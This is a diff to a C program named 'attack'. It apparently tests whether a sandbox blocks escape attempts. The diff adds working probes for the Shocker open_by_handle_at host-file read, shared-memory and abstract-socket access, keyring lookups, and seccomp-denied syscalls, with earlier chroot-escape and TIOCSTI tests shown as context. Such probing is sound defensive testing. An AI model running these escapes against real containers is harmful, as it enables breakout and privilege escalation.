@@ -11,6 +11,8 @@
 #include <string.h>
 #include <dirent.h>
 #include <sys/ioctl.h>
+#include <sys/shm.h>
+#include <sys/un.h>
 #include <sys/mount.h>
 #include <sys/ptrace.h>
 #include <sys/socket.h>
@@ -18,6 +20,8 @@
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/wait.h>
+#include <sched.h>
+#include <stddef.h>
 #include <netinet/in.h>
 #include <termios.h>
 #include <unistd.h>
@@ -83,6 +87,107 @@ static int tiocsti(void) {
     return worked("INJECTED");
 }
 
+/* "Shocker": open a file of the host by a handle made on the host (type, hex bytes),
+   through the root's own directory as the mount reference, and read its first line. */
+static int open_handle(int type, const char *hex) {
+    struct file_handle *handle = malloc(sizeof *handle + 128);
+    size_t length = strlen(hex) / 2;
+    handle->handle_type = type;
+    handle->handle_bytes = length;
+    for (size_t i = 0; i < length; i++) sscanf(hex + 2 * i, "%2hhx", &handle->f_handle[i]);
+    int mount_fd = open("/", O_RDONLY | O_DIRECTORY);
+    int fd = open_by_handle_at(mount_fd, handle, O_RDONLY);
+    if (fd < 0) return refused("open_by_handle_at");
+    char line[256] = "";
+    ssize_t got = read(fd, line, sizeof line - 1);
+    if (got < 0) return refused("read");
+    line[strcspn(line, "\n")] = 0;
+    return worked(line);
+}
+
+/* On the host: the handle of a path, as "type hex" for open-handle. */
+static int name_handle(const char *path) {
+    struct file_handle *handle = malloc(sizeof *handle + 128);
+    int mount_id;
+    handle->handle_bytes = 128;
+    if (name_to_handle_at(AT_FDCWD, path, handle, &mount_id, 0) != 0)
+        return refused("name_to_handle_at");
+    printf("%d ", handle->handle_type);
+    for (unsigned i = 0; i < handle->handle_bytes; i++) printf("%02x", handle->f_handle[i]);
+    printf("\n");
+    return 0;
+}
+
+/* Become `uid`, then probe whether a signal to `pid` would be delivered (signal 0). */
+static int kill_as(uid_t uid, pid_t pid) {
+    if (setresuid(uid, uid, uid) != 0) return refused("setuid");
+    if (kill(pid, 0) != 0) return refused("kill");
+    return worked("SIGNALLED");
+}
+
+static int abstract_connect(const char *name) {
+    struct sockaddr_un address = {.sun_family = AF_UNIX};
+    strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
+    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
+    socklen_t length = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name);
+    if (connect(fd, (struct sockaddr *)&address, length) != 0) return refused("connect");
+    return worked("CONNECTED");
+}
+
+static int shm_read(int id) {
+    char *memory = shmat(id, NULL, SHM_RDONLY);
+    if (memory == (void *)-1) return refused("shmat");
+    return worked(memory);
+}
+
+/* On the host: a root-only System V segment holding `text`; prints its id. */
+static int shm_make(int key, const char *text) {
+    int id = shmget(key, 4096, IPC_CREAT | IPC_EXCL | 0600);
+    if (id < 0) return refused("shmget");
+    char *memory = shmat(id, NULL, 0);
+    strcpy(memory, text);
+    return printf("%d\n", id) < 0;
+}
+
+static int keyring_id(const char *which) {
+    long spec = !strcmp(which, "session") ? -3 : -4; /* KEY_SPEC_SESSION/USER_KEYRING */
+    long id = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, spec, 0);
+    if (id < 0) return refused("keyctl");
+    return printf("%ld\n", id) < 0;
+}
+
+/* A system call the seccomp filter denies, with arguments that make the kernel itself
+   answer harmlessly: prints REACHED (and the kernel's answer) unless it was refused. */
+static int syscall_probe(const char *name) {
+    long result = -1;
+    errno = 0;
+    if (!strcmp(name, "io_uring_setup")) result = syscall(SYS_io_uring_setup, 0, NULL);
+    else if (!strcmp(name, "perf_event_open")) result = syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0);
+    else if (!strcmp(name, "userfaultfd")) result = syscall(SYS_userfaultfd, 1 | 0x40000000);
+    else if (!strcmp(name, "bpf")) result = syscall(SYS_bpf, 1000, NULL, 0);
+    else if (!strcmp(name, "add_key")) result = syscall(SYS_add_key, NULL, NULL, NULL, 0, 0);
+    else if (!strcmp(name, "request_key")) result = syscall(SYS_request_key, NULL, NULL, NULL, 0);
+    else if (!strcmp(name, "name_to_handle_at")) {
+        struct file_handle *handle = malloc(sizeof *handle + 128);
+        int mount_id;
+        handle->handle_bytes = 128;
+        result = syscall(SYS_name_to_handle_at, AT_FDCWD, "/", handle, &mount_id, 0);
+    }
+    else if (!strcmp(name, "setns")) result = syscall(SYS_setns, -1, 0);
+    else if (!strcmp(name, "unshare")) result = syscall(SYS_unshare, CLONE_FILES);
+    else if (!strcmp(name, "clone3")) result = syscall(SYS_clone3, NULL, 0);
+    else if (!strcmp(name, "clone-newuser")) {
+        result = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, NULL, NULL, NULL, 0);
+        if (result == 0) _exit(0);
+        if (result > 0) waitpid(result, NULL, 0);
+    }
+    else { fprintf(stderr, "unknown call %s\n", name); return 2; }
+    if (result < 0 && errno == EPERM) return refused(name);
+    if (result < 0 && errno == ENOSYS && !strcmp(name, "clone3")) return refused(name);
+    printf("REACHED %s\n", result < 0 ? strerror(errno) : "ok");
+    return 0;
+}
+
 int main(int argc, char **argv) {
     setvbuf(stdout, NULL, _IONBF, 0);
     const char *what = argc > 1 ? argv[1] : "";
@@ -130,7 +235,17 @@ int main(int argc, char **argv) {
         return 0;
     }
     if (!strcmp(what, "euid")) return printf("euid=%d\n", geteuid()) < 0;
+    if (!strcmp(what, "open-handle") && argc == 4) return open_handle(atoi(argv[2]), argv[3]);
+    if (!strcmp(what, "name-handle") && argc == 3) return name_handle(argv[2]);
+    if (!strcmp(what, "kill-as") && argc == 4) return kill_as(atoi(argv[2]), atoi(argv[3]));
+    if (!strcmp(what, "abstract-connect") && argc == 3) return abstract_connect(argv[2]);
+    if (!strcmp(what, "shm-read") && argc == 3) return shm_read(atoi(argv[2]));
+    if (!strcmp(what, "shm-make") && argc == 4) return shm_make(atoi(argv[2]), argv[3]);
+    if (!strcmp(what, "keyring-id") && argc == 3) return keyring_id(argv[2]);
+    if (!strcmp(what, "syscall-probe") && argc == 3) return syscall_probe(argv[2]);
     fprintf(stderr, "usage: attack chroot-escape|fchdir-escape|open-write|exe-attack|tiocsti|"
-                    "mknod-block|mount-tmpfs|remount-rw|raw-socket|load-module|ptrace|fds|euid ...\n");
+                    "mknod-block|mount-tmpfs|remount-rw|raw-socket|load-module|ptrace|fds|euid|"
+                    "open-handle|name-handle|kill-as|abstract-connect|shm-read|shm-make|"
+                    "keyring-id|syscall-probe ...\n");
     return 2;
 }
